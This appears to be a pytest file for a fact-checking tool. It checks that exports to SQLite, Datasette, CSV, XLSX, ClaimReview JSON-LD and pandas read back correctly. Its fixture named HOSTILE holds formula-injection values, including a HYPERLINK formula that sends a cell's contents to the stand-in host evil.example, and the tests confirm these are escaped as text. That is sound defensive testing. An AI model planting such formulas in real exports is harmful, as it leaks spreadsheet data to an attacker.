"""Exports read back by their own ecosystems: SQLite (sqlite-utils, Datasette), CSV,
XLSX (openpyxl) and ClaimReview (a JSON-LD processor)."""

from __future__ import annotations

import asyncio
import csv
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from factcheck import export, load, reconcile
from factcheck.cli import main
from factcheck.errors import UsageError

from .conftest import SEED_CLAIMS, MakeDesk

SEED = reconcile(load(SEED_CLAIMS))

#: The question a data desk asks first, in SQL.
IN_CONFLICT = """
select distinct c.id, c.source_name, c.quote
from findings f
join finding_claims fc on fc.finding = f.id
join claims c on c.id = fc.claim
where f.kind = 'conflict'
order by c.id
"""


@pytest.fixture(scope="module")
def seed_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("db") / "seed.db"
    export(SEED, "sqlite", path)
    return path


def test_the_seed_database_says_which_claims_sit_in_conflicts(seed_db: Path) -> None:
    import sqlite_utils

    db = sqlite_utils.Database(seed_db)
    found = list(db.query(IN_CONFLICT))
    assert [(r["id"], r["source_name"]) for r in found] == [
        ("ft-deliveries-2022", "Financial Times"),
        ("jiwei-china-market-2022", "Jiwei (JW Insights)"),
    ]
    assert found[0]["quote"].startswith("Les livraisons prévues l’an passé")


def test_the_database_is_typed_keyed_and_searchable(seed_db: Path) -> None:
    import sqlite_utils

    db = sqlite_utils.Database(seed_db)
    assert set(db.table_names()) >= {
        "claims", "findings", "finding_claims", "sources", "articles", "entities", "edges",
    }  # fmt: skip
    claims = db["claims"]
    assert claims.pks == ["id"] and claims.count == len(SEED.desk.claims)
    types = {c.name: c.type for c in claims.columns}
    assert types["lo"] == types["hi"] == "REAL" and types["line"] == "INTEGER"
    ft = claims.get("ft-deliveries-2022")
    assert (ft["lo"], ft["hi"], ft["unit"]) == (3.8e9, 4.2e9, "USD")
    assert (ft["period_start"], ft["period_end"]) == ("2022-01-01", "2022-12-31")
    assert ft["lo_date"] is None  # dates never share a column with numbers
    keys = {(fk.column, fk.other_table) for fk in db["finding_claims"].foreign_keys}
    assert keys == {("finding", "findings"), ("claim", "claims")}
    assert ("article", "articles") in {(fk.column, fk.other_table) for fk in claims.foreign_keys}
    assert any("claim" in i.columns for i in db["finding_claims"].indexes)
    assert claims.detect_fts() == "claims_fts"
    hits = [r["id"] for r in claims.search("livraisons")]
    assert hits == ["ft-deliveries-2022"]
    conflict = db["findings"].get("part-whole:ft-deliveries-2022+jiwei-china-market-2022")
    assert conflict["kind"] == "conflict" and conflict["position"] == 1


def test_a_date_value_has_its_days_in_date_columns(seed_db: Path) -> None:
    import sqlite_utils

    row = sqlite_utils.Database(seed_db)["claims"].get("fr000-export-ban-start")
    assert row["lo"] is None and row["lo_date"] is not None and row["unit"] is None


def test_datasette_opens_it_with_facets_and_descriptions(seed_db: Path) -> None:
    from datasette.app import Datasette

    meta = json.loads(seed_db.with_name("seed.metadata.json").read_text(encoding="utf-8"))
    described = meta["databases"]["seed"]["tables"]["claims"]
    assert "quote" in described["columns"] and "metric" in described["facets"]
    datasette = Datasette([str(seed_db)], metadata=meta)

    async def ask(url: str) -> Any:
        response = await datasette.client.get(url)
        assert response.status_code == 200, url
        return response.json()

    table = asyncio.run(ask("/seed/claims.json?_shape=objects"))
    assert set(table["facet_results"]) >= {"metric", "modality"}  # the metadata's facets
    searched = asyncio.run(ask("/seed/claims.json?_search=rattrapé&_shape=objects"))
    assert [r["id"] for r in searched["rows"]] == ["jiwei-china-market-2022"]
    sql = asyncio.run(ask("/seed.json?_shape=objects&sql=" + IN_CONFLICT.replace("\n", " ")))
    assert len(sql["rows"]) == 2


HOSTILE = """
article:
  outlet: daily
  language: en
claims:
  - id: c1
    source: wire
    subject: acme
    metric: spend
    period: 2023
    value: exactly 1 USD
    quote: '=HYPERLINK("http://evil.example/?x="&A1,"1 USD")'
  - id: c2
    source: wire
    subject: acme
    metric: units
    period: 2023
    value: exactly 2 GPU
    quote: "@SUM(1+1) and 2 GPU"
    note: "-2+3"
"""


def test_csv_files_read_back_and_formulas_are_text(make_desk: MakeDesk, tmp_path: Path) -> None:
    report = reconcile(load(make_desk({"a.yaml": HOSTILE})))
    written = export(report, "csv", tmp_path / "out")
    assert sorted(p.name for p in written)[:2] == ["articles.csv", "claims.csv"]
    with open(tmp_path / "out" / "claims.csv", encoding="utf-8", newline="") as handle:
        rows = {r["id"]: r for r in csv.DictReader(handle)}
    assert rows["c1"]["quote"].startswith("'=HYPERLINK(")  # shown, never run
    assert rows["c2"]["quote"].startswith("'@SUM") and rows["c2"]["note"] == "'-2+3"
    assert float(rows["c1"]["lo"]) == 1.0 and rows["c1"]["unit"] == "USD"  # numbers stay numbers


def test_seed_csv_has_every_claim(tmp_path: Path) -> None:
    export(SEED, "csv", tmp_path)
    with open(tmp_path / "findings.csv", encoding="utf-8", newline="") as handle:
        findings = list(csv.DictReader(handle))
    assert len(findings) == len(SEED.findings) and findings[0]["kind"] == "conflict"


def test_xlsx_sheets_read_back_and_formulas_are_text(make_desk: MakeDesk, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    report = reconcile(load(make_desk({"a.yaml": HOSTILE})))
    export(report, "xlsx", tmp_path / "desk.xlsx")
    book = load_workbook(tmp_path / "desk.xlsx")
    assert book.sheetnames[:4] == ["sources", "articles", "entities", "claims"]
    sheet = book["claims"]
    header = [c.value for c in sheet[1]]
    cells = {
        row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)
    }
    quote = cells["c1"]["quote"]
    assert quote.data_type == "s" and quote.value.startswith("=HYPERLINK(")  # text, not a formula
    assert cells["c2"]["note"].data_type == "s"
    assert cells["c1"]["lo"].value == 1.0 and cells["c1"]["lo"].data_type == "n"
    import zipfile

    with zipfile.ZipFile(tmp_path / "desk.xlsx") as archive:  # as Excel itself reads it
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)  # no formula


SCHEMA_ORG = {  # the part of schema.org's JSON-LD context our documents use
    "@context": {
        "@vocab": "http://schema.org/",
        "url": {"@id": "http://schema.org/url", "@type": "@id"},
        "datePublished": {
            "@id": "http://schema.org/datePublished",
            "@type": "http://schema.org/Date",
        },
    }
}
REVIEWED = """
policy:
  ratings: [false, misleading, mostly true, "true"]
article:
  outlet: daily
  published: 2023-09
  language: en
  url: https://daily.example/acme
claims:
  - id: c1
    source: wire
    subject: acme
    metric: spend
    period: 2023
    value: about 1 billion USD
    quote: "Acme spent about a billion dollars"
    review:
      rating: Misleading
      verdict: "The billion is a forecast, not spending."
      reviewer: The Daily's fact-check desk
      date: 2023-09-12
      url: https://daily.example/check/acme
  - id: c2
    source: wire
    subject: acme
    metric: spend
    period: 2022
    value: about 2 billion USD
    quote: "Acme spent about two billion dollars"
"""


def _expanded(document: Any) -> list[dict[str, Any]]:
    from pyld import jsonld

    def local(url: str, options: Any = None) -> dict[str, Any]:
        assert url.rstrip("/") in ("https://schema.org", "http://schema.org"), url  # no network
        return {"contextUrl": None, "documentUrl": url, "document": SCHEMA_ORG}

    expanded: list[dict[str, Any]] = jsonld.expand(document, {"documentLoader": local})
    return expanded


def test_claimreview_expands_with_every_required_property(
    make_desk: MakeDesk, tmp_path: Path
) -> None:
    report = reconcile(load(make_desk({"a.yaml": REVIEWED})))
    export(report, "claimreview", tmp_path / "reviews.jsonld")
    document = json.loads((tmp_path / "reviews.jsonld").read_text(encoding="utf-8"))
    assert len(document) == 1  # only the reviewed claim
    (review,) = _expanded(document)
    s = "http://schema.org/"
    assert review["@type"] == [s + "ClaimReview"]
    assert review[s + "url"] == [{"@id": "https://daily.example/check/acme"}]
    assert review[s + "claimReviewed"][0]["@value"] == "Acme spent about a billion dollars"
    assert review[s + "datePublished"][0]["@value"] == "2023-09-12"
    assert review[s + "author"][0][s + "name"][0]["@value"] == "The Daily's fact-check desk"
    rating = review[s + "reviewRating"][0]
    assert (
        rating[s + "ratingValue"][0]["@value"] == 2 and rating[s + "bestRating"][0]["@value"] == 4
    )
    assert rating[s + "alternateName"][0]["@value"] == "misleading"  # the scale's own spelling
    item = review[s + "itemReviewed"][0]
    assert item["@type"] == [s + "Claim"]
    assert item[s + "author"][0][s + "name"][0]["@value"] == "The Wire"
    assert item[s + "datePublished"][0]["@value"] == "2023-09-01"
    appearance = item[s + "appearance"][0]
    assert appearance[s + "url"] == [{"@id": "https://daily.example/acme"}]


def test_a_verdict_reaches_the_tables(make_desk: MakeDesk, tmp_path: Path) -> None:
    import sqlite_utils

    report = reconcile(load(make_desk({"a.yaml": REVIEWED})))
    export(report, "sqlite", tmp_path / "r.db")
    row = sqlite_utils.Database(tmp_path / "r.db")["claims"].get("c1")
    assert (row["rating"], row["rating_value"], row["rating_scale"]) == ("misleading", 2, 4)
    assert row["reviewed"] == "2023-09-12" and row["review_url"].endswith("/check/acme")


def test_an_unknown_format_and_a_desk_path_are_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="did you mean 'sqlite'"):
        export(SEED, "sqlit", tmp_path / "x")
    result = CliRunner().invoke(
        main, ["export", str(SEED_CLAIMS), "--format", "sqlite", "-o", str(SEED_CLAIMS / "x.db")]
    )
    assert result.exit_code == 2 and "inside the desk" in result.output
    assert not (SEED_CLAIMS / "x.db").exists()


def test_export_writes_nothing_half_done(tmp_path: Path) -> None:
    target = tmp_path / "seed.db"
    target.write_text("the old file", encoding="utf-8")
    result = CliRunner().invoke(
        main, ["export", str(SEED_CLAIMS), "--format", "sqlite", "-o", str(target)]
    )
    assert result.exit_code == 0
    assert target.read_bytes().startswith(b"SQLite format 3")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary left


def test_dataframes_have_proper_dtypes() -> None:
    frames = SEED.to_frames()
    claims = frames.claims
    assert len(claims) == len(SEED.desk.claims) and claims.index.name == "id"
    assert str(claims["lo"].dtype) == "float64" and str(claims["line"].dtype) == "Int64"
    assert str(claims["period_start"].dtype).startswith("datetime64")
    assert str(claims["lo_date"].dtype).startswith("datetime64")  # dates apart from numbers
    assert str(claims["quote"].dtype) == "string"
    assert str(frames.finding_claims["in_removal"].dtype) == "boolean"
    assert claims.loc["ft-deliveries-2022", "hi"] == 4.2e9
    assert (
        frames.findings.loc["part-whole:ft-deliveries-2022+jiwei-china-market-2022", "severity"]
        == "conflict"
    )


def test_an_empty_table_is_an_empty_frame_with_its_columns(make_desk: MakeDesk) -> None:
    bulk = "id,source,subject,metric,period,value\nb,wire,acme,spend,2022,2 billion USD\n"
    frames = reconcile(load(make_desk({"bulk.csv": bulk}))).to_frames()
    assert len(frames.articles) == 0  # no article: a CSV table of claims alone
    assert "url" in frames.articles.columns and frames.articles.index.name == "id"
    assert str(frames.articles["published_start"].dtype).startswith("datetime64")
    assert len(frames.claims) == 1


def test_without_pandas_the_error_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "pandas", None)  # as if it were not installed
    with pytest.raises(UsageError, match=r"pip install 'factcheck\[pandas\]'"):
        SEED.to_frames()


def test_a_table_too_long_for_a_spreadsheet_is_refused_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from factcheck.errors import ExportError
    from factcheck.publish import sheets

    monkeypatch.setattr(sheets, "MAX_ROWS", 10)  # Excel's limit is 1,048,576 rows
    with pytest.raises(
        ExportError,
        match=r"^cannot write .*desk\.xlsx: the \w+ table has \d+ rows, over the 9 a spreadsheet holds; export it as sqlite or csv$",
    ):
        export(SEED, "xlsx", tmp_path / "desk.xlsx")
    assert list(tmp_path.iterdir()) == []  # nothing half written


def test_a_desk_with_problems_exports_nothing(make_desk: MakeDesk, tmp_path: Path) -> None:
    desk = make_desk({"a.yaml": HOSTILE.replace("metric: units", "metric: unitz")})
    result = CliRunner().invoke(
        main, ["export", str(desk), "--format", "sqlite", "-o", str(tmp_path / "x.db")]
    )
    assert result.exit_code == 2 and "unknown metric 'unitz'" in result.output
    assert list(tmp_path.glob("x*")) == []
